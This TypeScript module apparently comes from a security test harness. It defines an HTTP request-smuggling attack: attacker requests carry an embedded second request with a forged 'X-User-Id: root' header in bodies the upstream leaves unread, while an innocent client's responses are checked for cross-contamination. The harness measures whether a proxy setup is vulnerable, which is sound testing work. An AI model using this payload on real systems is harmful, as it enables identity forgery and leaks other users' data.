import { type Attack, tally } from './attack.ts';
import { sendRaw } from './raw-request.ts';

const METHODS = ['GET', 'DELETE', 'HEAD', 'GET'];
const ROUNDS = 8;
const FORGED = 'root';
const BODY = `GET /smuggled HTTP/1.1\r\nHost: x\r\nX-User-Id: ${FORGED}\r\n\r\n`;

/** Bodies that the upstream leaves unread, and reads as the next request; another client asks in between. */
export const smuggling: Attack = {
  name: 'a request in a body that is left unread',
  run: async ({ url, token, orders }) => {
    const [attacker, innocent] = await Promise.all([token('mallory'), token('alice')]);
    const wrong = [];
    for (let round = 0; round < ROUNDS; round += 1) {
      const smuggled = METHODS.map((method) =>
        sendRaw(url, { method, target: '/api/orders/first', token: attacker, body: BODY }),
      );
      const asked = Array.from({ length: 2 }, () =>
        sendRaw(url, { method: 'GET', target: '/api/orders/mine', token: innocent }),
      );
      await Promise.all(smuggled);
      asked.push(sendRaw(url, { method: 'GET', target: '/api/orders/mine', token: innocent }));
      const answers = await Promise.all(asked);
      wrong.push(
        ...answers.filter(({ body }) => body !== '/mine alice').map(({ status, body }) => `${status} ${body}`),
      );
    }
    const forged = orders.filter(({ user }) => user === FORGED).length;
    return {
      requests: ROUNDS * METHODS.length,
      worked: forged > 0 || wrong.length > 0,
      seen: `the upstream got ${forged} forged requests; wrong answers of the other client: ${tally(wrong)}`,
    };
  },
};
